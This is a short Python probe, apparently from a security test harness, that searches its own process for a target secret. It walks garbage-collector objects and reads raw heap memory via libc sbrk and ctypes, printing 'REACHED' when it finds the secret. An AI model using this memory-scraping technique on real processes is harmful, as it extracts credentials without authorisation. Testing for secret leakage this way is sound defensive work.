import ctypes
import gc

from attack import *

seen, secret = set(), targets.secret_begins + "-"
for thing in gc.get_objects():
    for text in gc.get_referents(thing):
        if isinstance(text, (str, bytes)) and secret in str(text) and len(text) > len(secret) + 9:
            print("REACHED: in memory", text[:100])
        if isinstance(text, str) and text == targets.neighbour and "targets" not in str(type(thing)):
            seen.add(type(thing).__name__)

libc.sbrk.restype = ctypes.c_void_p
end = libc.sbrk(0)
heap = ctypes.string_at(end - (1 << 20), 1 << 20)
place = heap.find(secret.encode())
if place >= 0 and heap[place + 7 : place + 23].isalnum():
    print("REACHED: on the heap", heap[place : place + 40])
